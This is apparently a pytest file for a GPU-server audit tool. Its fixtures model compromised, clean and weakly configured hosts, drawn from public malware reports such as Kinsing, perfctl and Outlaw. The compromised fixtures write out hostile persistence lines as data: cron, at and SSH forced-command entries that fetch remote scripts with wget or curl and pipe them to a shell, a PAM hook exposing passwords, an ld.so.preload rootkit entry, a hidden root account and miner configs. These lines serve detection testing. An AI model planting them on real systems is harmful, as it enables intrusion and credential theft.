"""Thirty servers after public reports: ten that were broken into in different ways, fourteen that only look so, six with weak settings."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from servers_made import GPU_FILES, PASSWD, flat, gpus, process, server

from gpuclinic.cli.main import main

if TYPE_CHECKING:
    from pathlib import Path

WALLET = "44" + "AbCdEfGh1234567" * 6 + "Abc"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAILgp/prrPFmXJvODGrt9mSqzEWa5TQlcqh5WDDc/mK0C"


def one(
    files: dict[str, str], verdict: str, must: str = "", never: str = "", **more: Any
) -> tuple[dict[str, str], str, str, str, dict[str, Any]]:
    return files, verdict, must, never, more


SERVERS = {
    # ---- broken into
    "kinsing: cron by two steps, deleted program": one(
        {"/var/spool/cron/crontabs/www-data": "* * * * * wget -q -O /var/tmp/d.sh http://203.0.113.9/d.sh; sh /var/tmp/d.sh > /dev/null 2>&1\n",
         **process(5001, ["/tmp/kdevtmpfsi"], exe="/tmp/kdevtmpfsi (deleted)", uid=33, fds=["socket:[501]"])},
        "infected", "cron_backdoor exe_deleted_tmp miner_process"),  # Aqua and Trend Micro on Kinsing
    "perfctl: preload, hidden pid, profile": one(
        {"/etc/ld.so.preload": "/lib/libgcwrap.so\n", "/root/.profile": "(/root/.config/cron/perfcc >/dev/null 2>&1 &)\n"},
        "infected", "ld_preload hidden_process shell_rc_exec",
        alive=[{"pid": 7100, "tgid": 7100, "kill0": True, "listed": False, "direct_open": True}],
        direct={"7100": {"comm": "perfctl", "exe": "/tmp/.perf.c/perfctl", "cmdline": ["perfctl"], "status": "Name:\tperfctl\nTgid:\t7100\nPid:\t7100\nUid:\t0\t0\t0\t0\n", "stat": ""}}),  # Aqua Nautilus
    "SANSAR: false NVML library, module, initramfs": one(
        {"/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.1": "ELF wrapper\n" * 40, "/usr/lib/x86_64-linux-gnu/libnvidia-ml.so.1.orig": "ELF",
         "/proc/modules": "sysnv_helper 16384 0 - Live 0x0 (OE)\nnvidia 56815616 0 - Live 0x0 (POE)\n", "/etc/initramfs-tools/hooks/sysnv": "#!/bin/sh\ncopy_exec /lib/modules/x/sysnv_helper.ko\nmanual_add_modules sysnv_helper\n"},
        "infected", "nvml_lib_tampered kernel_module_unowned initramfs_hook", gpu=gpus([], flat(util=0, watts=330))),  # Elastic Security Labs
    "kernel thread's name": one(
        {**process(6200, ["[kworker/2:1H]"], exe="/usr/sbin/.khelper", fds=GPU_FILES, comm="kworker/2:1H")}, "infected", "kthread_masquerade", gpu=gpus([6200], flat())),
    "mounted over /proc": one({"/proc/self/mountinfo": "22 29 0:21 / /proc rw - proc proc rw\n99 22 253:1 /tmp/e /proc/4711 rw - ext4 /dev/vda1 rw\n"}, "infected", "proc_overmount"),
    "user's timer and a configuration only": one(
        {"/home/ann/.config/systemd/user/dbus-helper.service": "[Service]\nExecStart=%h/.cache/.dbus/dbus-helper -c /home/ann/.cache/.dbus/config.json\nRestart=always\n",
         "/home/ann/.cache/.dbus/config.json": json.dumps({"autosave": True, "donate-level": 0, "cuda": True, "pools": [{"url": "pool.example.net:443", "user": WALLET, "algo": "rx/0", "tls": True}]}),
         **process(6300, ["dbus-helper", "-c", "/home/ann/.cache/.dbus/config.json"], exe="/home/ann/.cache/.dbus/dbus-helper", uid=1000, fds=GPU_FILES)},
        "infected", "miner_process miner_config", "sudoers_nopasswd_all", gpu=gpus([6300], flat())),
    "python wrapper under a shell": one(
        {**process(6400, ["sh", "-c", "while true; do /opt/nvrt/rt --algo kawpow --server rvn.2miners.com --port 6060 --user RMadeUpWalletNotRealMadeUpWalletNo.a; done"], exe="/usr/bin/dash"),
         **process(6401, ["/opt/nvrt/rt", "--algo", "kawpow", "--server", "rvn.2miners.com", "--port", "6060", "--user", "RMadeUpWalletNotRealMadeUpWalletNo.a"], exe="/opt/nvrt/rt", ppid=6400, fds=["socket:[77]"])},
        "infected", "miner_cmdline miner_process pool_connection", "hidden_process",
        ss='ESTAB 0 0 192.0.2.7:51514 203.0.113.60:6060 users:(("rt",pid=6401,fd=3))\n', gpu=gpus([6401], flat())),
    "mounted disk without /proc": one(
        {"/var/spool/cron/crontabs/root": "@reboot /usr/lib/.nv/nvsrv -o stratum+ssl://xmr.nanopool.org:14433 -u x\n", "/root/.ssh/authorized_keys": f'command="curl -s http://198.51.100.7/k|sh" {KEY} x\n'},
        "infected", "cron_backdoor ssh_key_forced_command", without=("/proc/",), processes=False),
    "outlaw: keys in system accounts, filtered commands": one(
        {f"{home}/.ssh/authorized_keys": f"{KEY} mdrfckr\n" for home in ("/root", "/home/ann", "/home/bob", "/var/www")} | {"/root/.bashrc": "alias ps='ps $@ | grep -v kswapd00'\nalias crontab='crontab | grep -v tsm'\nnvidia-smi() { /usr/bin/nvidia-smi \"$@\" | grep -v tsm; }\n",
         "/etc/cron.d/dblaunchs": "*/2 * * * * root /dev/shm/.rsync/c/aptitude >/dev/null 2>&1\n"},
        "infected", "ssh_key_shared_many alias_tamper cron_backdoor"),  # Yoroi and Elastic on Outlaw
    "second root, PAM and at": one(
        {"/etc/passwd": PASSWD + "systemd-x:x:0:0::/:/bin/bash\n", "/etc/pam.d/common-auth": "auth optional pam_exec.so quiet expose_authtok /usr/lib/.p/log.sh\n",
         "/var/spool/cron/atjobs/a0000101c9": "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\ncd /root || exit 1\ncurl -s http://198.51.100.9/x.sh | bash\n"},
        "infected", "uid0_account pam_exec_hook at_job_backdoor"),
    # ---- healthy
    "training": one(
        {**process(8000, ["python", "train.py", "--algo", "PPO", "--pool", "8", "-o", "runs/x"], exe="/home/ann/miniconda3/bin/python3.11", uid=1000, maps=["/x/libtorch_cuda.so", "/dev/nvidia0", "/dev/nvidia-uvm"], fds=[*GPU_FILES, "socket:[9]"], ppid=7000)},
        "clean", "", "miner_process exe_hidden_path gpu_device_holder_unlisted", gpu=gpus([8000], flat())),
    "monte carlo": one({**process(8100, ["/home/bob/mc/bin/lattice", "-a", "32", "-o", "out.h5"], exe="/home/bob/mc/bin/lattice", uid=1001, fds=GPU_FILES)}, "clean", "", "miner_process miner_cmdline", gpu=gpus([8100], flat())),
    "folding": one({**process(8200, ["/var/lib/fah-client/cores/openmm/FahCore_22", "-dir", "01", "-suffix", "01"], exe="/var/lib/fah-client/cores/openmm/FahCore_22", uid=33, fds=[*GPU_FILES, "socket:[88]"])},
                   "clean", "", "miner_process pool_connection", gpu=gpus([8200], flat()), ss='ESTAB 0 0 192.0.2.7:40000 198.51.100.20:443 users:(("FahCore_22",pid=8200,fd=6))\n'),
    "slurm node with prolog keys and a wrapper": one(
        {"/root/.ssh/authorized_keys": f'from="192.0.2.0/24" {KEY} root@head\n', "/etc/pam.d/sshd": "account required pam_slurm_adopt.so\n", "/usr/local/bin/nvidia-smi": '#!/bin/bash\nexec /usr/bin/nvidia-smi -i "$SLURM_JOB_GPUS" "$@"\n',
         **process(8300, ["/tmp/slurm-job-4711/run", "--nodes", "4"], exe="/tmp/slurm-job-4711/run", uid=1000, env={"SLURM_JOB_ID": "4711"}, cgroup="0::/system.slice/slurmstepd.scope/job_4711/step_0", fds=GPU_FILES),
         "/etc/sudoers.d/monitoring": "nagios ALL=(root) NOPASSWD: /usr/bin/nvidia-smi -q, /usr/sbin/smartctl -a *\n"},
        "clean", "", "exe_hidden_path nvidia_smi_replaced ssh_key_shared_many sudoers_nopasswd_all", gpu=gpus([8300], flat())),
    "cloud image": one(
        {"/root/.ssh/authorized_keys": f'no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo \'Please login as the user \\"ubuntu\\" rather than the user \\"root\\".\';echo;sleep 10;exit 142" {KEY} k\n',
         "/etc/sudoers.d/90-cloud-init-users": "ubuntu ALL=(ALL) NOPASSWD:ALL\n", "/etc/passwd": PASSWD + "ubuntu:x:1002:1002:Ubuntu:/home/ubuntu:/bin/bash\n", "/home/ubuntu/.ssh/authorized_keys": f"{KEY} k\n"},
        "clean", "", "ssh_key_forced_command ssh_key_shared_many sudoers_nopasswd_all"),
    "kubernetes node": one(
        {"/var/lib/kubelet/config.yaml": "apiVersion: kubelet.config.k8s.io/v1beta1\nauthentication:\n  anonymous:\n    enabled: false\n  webhook:\n    enabled: true\nauthorization:\n  mode: Webhook\nreadOnlyPort: 0\n",
         **process(8400, ["/app/worker"], exe="/app/worker", cgroup="0::/kubepods.slice/kubepods-pod1.slice/cri-containerd-aa.scope", fds=GPU_FILES)},
        "clean", "", "kubelet_anonymous kubelet_readonly_port", gpu=gpus([8400], flat(memory=70000, pcie=9e5)), ss="LISTEN 0 0 127.0.0.1:10248 0.0.0.0:*\n"),
    "upgraded python, jemalloc, pyinstaller": one(
        {**process(8500, ["/usr/bin/python3.10", "-m", "vllm.entrypoints.openai.api_server"], exe="/usr/bin/python3.10 (deleted)", env={"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}),
         **process(8501, ["/tmp/_MEIabc123/app"], exe="/tmp/_MEIabc123/app", uid=1000), **process(8502, ["/tmp/.mount_obsidXy/obsidian"], exe="/tmp/.mount_obsidXy/obsidian", uid=1000)},
        "clean", "", "exe_deleted_tmp exe_hidden_path ld_preload"),
    "web3 developer": one(
        {**process(8600, ["geth", "--http", "--http.port", "8545", "--miner.etherbase", "0x1234567890123456789012345678901234567890"], exe="/usr/local/bin/geth", uid=1000),
         "/home/ann/hardhat/config.json": json.dumps({"networks": {"main": {"url": "https://rpc.example/v3", "accounts": []}}})}, "clean", "", "miner_process miner_config"),
    "renewals, health checks, backups": one(
        {"/var/spool/cron/crontabs/root": "0 3 * * * /usr/local/sbin/backup.sh | gzip > /backup/x.tgz 2>/dev/null\n*/5 * * * * curl -fsS -m 10 https://hc.example/ping >/dev/null 2>&1\n10 4 * * 1 zcat /backup/plan.sh.gz | bash\n",
         "/var/spool/cron/crontabs/ann": '7 0 * * * "/home/ann/.acme.sh"/acme.sh --cron --home "/home/ann/.acme.sh" > /dev/null\n', "/etc/cron.d/certbot": "0 */12 * * * root test -x /usr/bin/certbot && certbot -q renew\n"},
        "clean", "", "cron_backdoor"),
    "borg and gitolite keys": one(
        {"/home/bob/.ssh/authorized_keys": f'command="borg serve --restrict-to-path /srv/borg",restrict {KEY} b\ncommand="/usr/share/gitolite3/gitolite-shell ann",no-pty {KEY.replace("Lgp", "Lgq")} a\n'},
        "clean", "", "ssh_key_forced_command"),
    "storage modules": one({"/proc/modules": "zfs 4 1 - Live 0x0 (POE)\nspl 4 1 - Live 0x0 (OE)\nlustre 4 1 - Live 0x0 (OE)\nmlx5_core 4 1 - Live 0x0 (OE)\nwekafsio 4 1 - Live 0x0 (OE)\nnvidia 4 1 - Live 0x0 (POE)\n"}, "clean", "", "kernel_module_unowned"),
    "nvml in a container": one({}, "clean", "", "hidden_gpu_process hidden_process", gpu={**gpus([4242], flat(pcie=5e5)), "nvml_pid_namespace": "host"},
                               alive=[{"pid": 900, "tgid": 899, "kill0": True, "listed": False, "direct_open": True}]),
    "jupyter behind a tunnel": one(
        {"/home/ann/.jupyter/jupyter_server_config.json": json.dumps({"IdentityProvider": {"hashed_password": "argon2:x"}, "ServerApp": {"ip": "127.0.0.1"}}),
         **process(8700, ["/home/ann/miniconda3/bin/python", "/home/ann/miniconda3/bin/jupyter-lab", "--no-browser"], exe="/home/ann/miniconda3/bin/python3.11", uid=1000, env={"HOME": "/home/ann"}, fds=["socket:[70]"])},
        "clean", "", "jupyter_no_token jupyter_no_tls", ss='LISTEN 0 0 127.0.0.1:8888 0.0.0.0:* users:(("jupyter-lab",pid=8700,fd=3))\n'),
    "nfs and docker as they should be": one(
        {"/etc/exports": "/srv/data 192.0.2.0/24(rw,sync,root_squash)\n/srv/pub *(ro,all_squash)\n", "/etc/docker/daemon.json": '{"runtimes": {"nvidia": {"path": "nvidia-container-runtime"}}, "hosts": ["unix:///var/run/docker.sock"]}\n'},
        "clean", "", "nfs_no_root_squash nfs_world_export docker_api_open"),
    # ---- weak
    "jupyter for everybody": one(
        {**process(9000, ["/usr/bin/python3.10", "/usr/local/bin/jupyter-lab", "--ip=0.0.0.0", "--allow-root", "--ServerApp.token=", "--ServerApp.password="], exe="/usr/bin/python3.10", fds=["socket:[71]"], env={"HOME": "/root"}),
         "/root/.jupyter/jupyter_server_config.py": "c = get_config()\nc.ServerApp.disable_check_xsrf = True\nc.ServerApp.allow_origin = '*'\n"},
        "weak", "jupyter_no_token jupyter_no_tls jupyter_as_root jupyter_xsrf_disabled jupyter_allow_origin_any", ss='LISTEN 0 0 0.0.0.0:8888 0.0.0.0:* users:(("jupyter-lab",pid=9000,fd=3))\n'),
    "old tls": one(
        {"/home/ann/.jupyter/jupyter_notebook_config.py": 'import ssl\nc.NotebookApp.ip = "*"\nc.NotebookApp.certfile = "/home/ann/c.pem"\nc.NotebookApp.keyfile = "/home/ann/k.pem"\nc.NotebookApp.ssl_options = {"ssl_version": ssl.PROTOCOL_TLSv1_1, "ciphers": "DES-CBC3-SHA:RC4@SECLEVEL=0"}\n',
         "/home/ann/k.pem": "not a key\n"},
        "weak", "jupyter_tls_old jupyter_weak_ciphers jupyter_key_world_readable", "jupyter_no_token jupyter_no_tls"),
    "ray and docker": one(
        {**process(9100, ["ray::dashboard", "/opt/ray/dashboard/dashboard.py", "--host=0.0.0.0", "--port=8265"], exe="/usr/bin/python3.10"), **process(9101, ["/usr/bin/dockerd", "-H", "unix://", "-H", "tcp://0.0.0.0:2375"], exe="/usr/bin/dockerd")},
        "weak", "ray_dashboard_open docker_api_open docker_socket_world_writable", modes={"/var/run/docker.sock": {"kind": "socket", "mode": "0666", "uid": 0, "gid": 0}},
        ss='LISTEN 0 0 0.0.0.0:8265 0.0.0.0:* users:(("ray::dashboard",pid=9100,fd=3))\nLISTEN 0 0 0.0.0.0:2375 0.0.0.0:* users:(("dockerd",pid=9101,fd=3))\n'),
    "kubelet and nfs": one(
        {"/var/lib/kubelet/config.yaml": "authentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\nreadOnlyPort: 10255\n", "/etc/exports": "/home *(rw,sync,no_root_squash)\n"},
        "weak", "kubelet_anonymous kubelet_readonly_port nfs_no_root_squash nfs_world_export"),
    "ssh and accounts": one(
        {"/etc/ssh/sshd_config": "PermitRootLogin yes\nPasswordAuthentication yes\nPermitEmptyPasswords yes\nX11Forwarding yes\n", "/etc/shadow": "root:$6$x$y:19000:0:99999:7:::\nbob::19000:0:99999:7:::\n"},
        "weak", "sshd_root_password sshd_password_auth sshd_empty_passwords account_empty_password sshd_x11_forwarding", modes={"/etc/shadow": {"mode": "0640", "uid": 0, "gid": 42}}),
    "sudo and cron": one(
        {"/etc/sudoers.d/all": "%research ALL=(ALL) NOPASSWD: ALL\n", "/etc/cron.d/clean": "*/10 * * * * root /opt/lab/clean.sh\n", "/opt/lab/clean.sh": "#!/bin/sh\nfind /scratch -mtime +30 -delete\n"},
        "weak", "sudoers_nopasswd_all cron_writable_script", "cron_backdoor", modes={"/opt/lab/clean.sh": {"mode": "0666", "uid": 0, "gid": 0}}),
}  # fmt: skip


def verdict_of(told: dict[str, Any]) -> str:
    if told["compromise"] in ("infected", "suspicious"):
        return str(told["compromise"])
    return "weak" if told["posture"] == "weak" else "clean"


@pytest.mark.parametrize("name", SERVERS)
def test_a_server(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files, verdict, must, never, more = SERVERS[name]
    code = main(["audit", "--json", "--host", str(server(tmp_path, files, **more))])
    told = json.loads(capsys.readouterr().out)
    found = {f["id"] for f in told["findings"]}
    grave = {f["id"] for f in told["findings"] if f["severity"] != "info"}
    shown = [(f["id"], f["severity"], f["subject"]) for f in told["findings"]]
    assert verdict_of(told) == verdict, shown
    assert set(must.split()) <= found, (set(must.split()) - found, shown)
    assert not set(never.split()) & grave, shown
    if verdict != "clean":
        assert code == {"infected": 2, "suspicious": 1, "weak": code if code in (1, 2) else -1}[verdict]
    else:
        assert code in (0, 3)
        assert not grave
